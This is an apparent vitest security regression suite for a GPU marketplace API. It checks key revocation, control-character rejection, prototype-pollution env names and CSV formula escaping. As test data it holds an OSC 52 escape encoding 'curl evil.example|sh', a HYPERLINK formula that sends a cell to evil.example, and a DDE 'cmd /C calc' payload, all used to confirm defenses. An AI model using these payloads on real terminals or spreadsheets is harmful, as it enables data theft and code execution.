import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LocalRuntime } from '#infra/local/runtime.ts';
import { apiClient, eventually, onboardHost, sampleHostFacts, startTestRuntime, type ApiClient } from '#test/support/local-runtime.ts';
import { fundedRenter, jobBody, jobStatus, offeredHost, reportEvent, waitForMessage, waitForStatus } from '#test/support/marketplace.ts';

/**
 * What a hostile user tried against `npm start` (issue 13, Keys, Hostile strings, Local
 * runtime), replayed against the local runtime with the authorizer's default 60 s cache:
 * a revoked key cannot mint, control characters are refused where text is stored, every
 * POSIX env name round-trips, CSV cells never start a formula, and a path that does not
 * decode is the documented 400.
 */
let runtime: LocalRuntime;
let api: ApiClient;

beforeAll(async () => {
  runtime = await startTestRuntime({ env: { CAPACITY_CACHE_SECONDS: '0.5' } });
  api = apiClient(runtime.apiUrl);
}, 120_000);
afterAll(() => runtime?.stop());

const expectNamedBadRequest = (response: { status: number; body: any }, field: string) => {
  expect(response.status).toBe(400);
  expect(response.body.error.code).toBe('validation_failed');
  expect(response.body.error.details.map((detail: { field: string }) => detail.field)).toContain(field);
};

describe('credentials are minted only by a key that is still valid', () => {
  it('a renter key revoked a moment ago cannot mint a key, though the cache still admits it elsewhere', async () => {
    const renter = await api.call('POST', '/v1/accounts', { key: runtime.adminKey, body: { kind: 'renter', name: 'Revoked Labs' } });
    const first: string = renter.body.apiKey;
    // Minting with the first key puts it in the authorizer's cache.
    const second = await api.call('POST', '/v1/accounts/me/keys', { key: first });
    expect(second.status).toBe(201);

    const revoked = await api.call('DELETE', `/v1/accounts/me/keys/${renter.body.keyId}`, { key: second.body.apiKey });
    expect(revoked.status).toBeLessThan(300);
    // The cache still knows the first key (this is what makes the next request a real test).
    expect((await api.call('GET', '/v1/accounts/me', { key: first })).status).toBe(200);

    const minted = await api.call('POST', '/v1/accounts/me/keys', { key: first });

    expect(minted.status).toBe(401);
    expect(minted.body.error.code).toBe('unauthorized');
    expect(minted.body.apiKey).toBeUndefined();
    const keys = await api.call('GET', '/v1/accounts/me/keys', { key: second.body.apiKey });
    expect(keys.body.items).toHaveLength(2);
  });

  it('a provider key revoked a moment ago cannot create a registration token', async () => {
    const provider = await api.call('POST', '/v1/accounts', { key: runtime.adminKey, body: { kind: 'provider', name: 'Revoked GPUs' } });
    const first: string = provider.body.apiKey;
    expect((await api.call('POST', '/v1/hosts/registration-tokens', { key: first })).status).toBe(201);
    const second = await api.call('POST', '/v1/accounts/me/keys', { key: first });
    expect((await api.call('DELETE', `/v1/accounts/me/keys/${provider.body.keyId}`, { key: second.body.apiKey })).status).toBeLessThan(300);
    expect((await api.call('GET', '/v1/hosts', { key: first })).status).toBe(200);

    const token = await api.call('POST', '/v1/hosts/registration-tokens', { key: first });

    expect(token.status).toBe(401);
    expect(token.body.token).toBeUndefined();
    // The live key still can.
    expect((await api.call('POST', '/v1/hosts/registration-tokens', { key: second.body.apiKey })).status).toBe(201);
  });

  it("a deregistered host's agent token gets no fresh queue credentials", async () => {
    const host = await onboardHost(api, runtime.adminKey);
    expect((await api.call('POST', '/v1/agent/queue-credentials', { key: host.agentToken })).status).toBe(200);
    expect((await api.call('DELETE', `/v1/hosts/${host.hostId}`, { key: host.providerKey })).status).toBeLessThan(300);

    const vended = await api.call('POST', '/v1/agent/queue-credentials', { key: host.agentToken });

    expect(vended.status).toBe(401);
    expect(vended.body.credentials).toBeUndefined();
  });
});

describe('control characters in stored text', () => {
  const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007';

  it.each([
    ['C0 (ESC, BEL: OSC 52)', `RTX 4090${OSC52}`],
    ['C1 (CSI)', 'RTX\u009b31m 4090'],
    ['DEL', 'RTX\u007f4090'],
    ['NUL', 'RTX\u00004090'],
  ])('a GPU name with %s is a 400 naming gpus.0.name', async (_what, name) => {
    const provider = await api.call('POST', '/v1/accounts', { key: runtime.adminKey, body: { kind: 'provider', name: 'Escapes Inc' } });
    const token = await api.call('POST', '/v1/hosts/registration-tokens', { key: provider.body.apiKey });
    const facts = sampleHostFacts();

    const registered = await api.call('POST', '/v1/agent/register', {
      body: { ...facts, registrationToken: token.body.token, gpus: [{ ...facts.gpus[0], name }] },
    });

    expectNamedBadRequest(registered, 'gpus.0.name');
  });

  it('refuses them in account names, hostnames, job names and webhook descriptions, each named', async () => {
    expectNamedBadRequest(await api.call('POST', '/v1/accounts', { key: runtime.adminKey, body: { kind: 'renter', name: `Ada${OSC52}` } }), 'name');
    const provider = await api.call('POST', '/v1/accounts', { key: runtime.adminKey, body: { kind: 'provider', name: 'Escapes Inc' } });
    const token = await api.call('POST', '/v1/hosts/registration-tokens', { key: provider.body.apiKey });
    expectNamedBadRequest(
      await api.call('POST', '/v1/agent/register', { body: { ...sampleHostFacts({ hostname: 'rig\r\n1' }), registrationToken: token.body.token } }),
      'hostname',
    );
    const renter = await fundedRenter(api, runtime, '5.000000');
    expectNamedBadRequest(await api.call('POST', '/v1/jobs', { key: renter.renterKey, body: jobBody({ name: `train${OSC52}` }) }), 'name');
    expectNamedBadRequest(
      await api.call('POST', '/v1/webhooks', { key: renter.renterKey, body: { url: 'http://127.0.0.1:9/hook', events: ['job.ended'], description: `mine\u009d0;title\u009c` } }),
      'description',
    );
  });
});

/** What a spreadsheet evaluates: a cell starting = + - @ tab or CR that is not a plain number. */
const isLiveFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);

describe('a hostile GPU name and env names on the whole flow', () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"RTX 4090")';
  let usageCsv: string;
  let ledgerCsv: string;
  let assignmentEnv: Record<string, string>;
  let agent: { token: string; assignmentId: string };

  beforeAll(async () => {
    const finance = await api.call('POST', '/v1/accounts', { key: runtime.adminKey, body: { kind: 'finance', name: 'Finance' } });
    const from = new Date(Date.now() - 60_000).toISOString();
    const renter = await fundedRenter(api, runtime, '20.000000');
    // An admin-entered credit reference is free text too: it lands in the ledger CSV.
    expect((await api.call('POST', `/v1/accounts/${renter.renterId}/credits`, { key: runtime.adminKey, body: { amount: '1.000000', reference: '@SUM(1+1)*cmd|" /C calc"!A0' } })).status).toBe(201);
    const host = await offeredHost(api, runtime, renter.renterKey, {
      gpus: [{ name: HYPERLINK, vramMb: 24564, uuid: 'GPU-hostile-1', index: 0 }],
      pricePerGpuHour: '0.900000',
    });
    // An object literal's `__proto__` sets the prototype rather than a key: write the JSON by hand.
    const rawEnv = '{"constructor":"c","__proto__":"p","toString":"t","hasOwnProperty":"h","PATH_EXTRA":"/opt"}';
    const body = JSON.stringify(jobBody({ maxPricePerGpuHour: '1.000000', hosts: 1 })).replace(/}$/, `,"env":${rawEnv}}`);
    const job = await api.call('POST', '/v1/jobs', { key: renter.renterKey, rawBody: body });
    expect(job.status).toBe(202);
    const assignment = await waitForMessage(api, host.agentToken, (m) => m.jobId === job.body.jobId);
    assignmentEnv = assignment.env;
    agent = { token: host.agentToken, assignmentId: assignment.assignmentId };
    await reportEvent(api, host.agentToken, assignment.assignmentId, 'accepted');
    await reportEvent(api, host.agentToken, assignment.assignmentId, 'started');
    const leaseStart = new Date((await jobStatus(api, renter.renterKey, job.body.jobId)).assignments[0].startedAt);
    const records = [{ eventId: 'usage-0', assignmentId: assignment.assignmentId, from: leaseStart.toISOString(), to: new Date(leaseStart.getTime() + 1000).toISOString(), gpuSeconds: 1 }];
    await eventually(async () => expect((await api.call('POST', '/v1/agent/usage', { key: host.agentToken, body: { records } })).status).toBe(202));
    await eventually(async () => expect((await jobStatus(api, renter.renterKey, job.body.jobId)).cost).toBe('0.000250'));
    await reportEvent(api, host.agentToken, assignment.assignmentId, 'exited', { exitCode: 0 });
    await waitForStatus(api, renter.renterKey, job.body.jobId, 'succeeded');

    const period = { from, to: new Date(Date.now() + 60_000).toISOString() };
    const exported = async (kind: string) => {
      const requested = await api.call('POST', '/v1/finance/exports', { key: finance.body.apiKey, body: { kind, format: 'csv', ...period } });
      const done = await eventually(async () => {
        const shown = await api.call('GET', `/v1/finance/exports/${requested.body.exportId}`, { key: finance.body.apiKey });
        expect(shown.body.status).toBe('succeeded');
        return shown.body;
      }, 20_000);
      return (await fetch(done.url)).text();
    };
    usageCsv = await exported('usage');
    ledgerCsv = await exported('ledger');
  }, 120_000);

  it('delivers every POSIX env name to the host as submitted, `constructor` and `__proto__` included', () => {
    expect(Object.entries(assignmentEnv).sort()).toEqual(
      [['constructor', 'c'], ['__proto__', 'p'], ['toString', 't'], ['hasOwnProperty', 'h'], ['PATH_EXTRA', '/opt']].sort(),
    );
  });

  it("refuses an agent event message carrying ESC, but not one carrying the job's last lines", async () => {
    expectNamedBadRequest(await reportEvent(api, agent.token, agent.assignmentId, 'failed', { message: 'exit 1\n\u001b]52;c;Y3VybA==\u0007' }), 'message');
    // The job ended already: whatever the answer, it is not a refusal of the text.
    expect((await reportEvent(api, agent.token, agent.assignmentId, 'failed', { message: 'exit 1\n--- last lines ---\nTraceback:\n\tline 3' })).status).not.toBe(400);
  });

  it('writes the GPU name into the usage CSV as text a spreadsheet will not evaluate', () => {
    const [header = [], ...rows] = parse(usageCsv);
    const gpuModel = rows.map((row) => row[header.indexOf('gpuModel')]);

    expect(rows).toHaveLength(1);
    expect(gpuModel).toEqual([`'${HYPERLINK}`]);
    expect(rows.flat().filter(isLiveFormula)).toEqual([]);
  });

  it('writes the credit reference into the ledger CSV defused, and negative amounts as plain numbers', () => {
    const [header = [], ...rows] = parse(ledgerCsv);
    const references = rows.map((row) => row[header.indexOf('reference')]);
    const amounts = rows.map((row) => row[header.indexOf('amount')] ?? '');

    expect(references).toContain(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(amounts.some((amount) => /^-\d+\.\d{6}$/.test(amount))).toBe(true);
    expect(rows.flat().filter(isLiveFormula)).toEqual([]);
  });
});

describe('the local gateway', () => {
  it('answers a path that does not decode with the documented 400, not a 500', async () => {
    const renter = await fundedRenter(api, runtime, '1.000000');

    const response = await api.call('GET', '/v1/jobs/%00%ff%c0%af', { key: renter.renterKey });

    expect(response.status).toBe(400);
    expect(response.body).toEqual({
      error: { code: 'validation_failed', message: expect.any(String), details: [{ field: 'path.jobId', message: expect.any(String) }] },
    });
  });
});
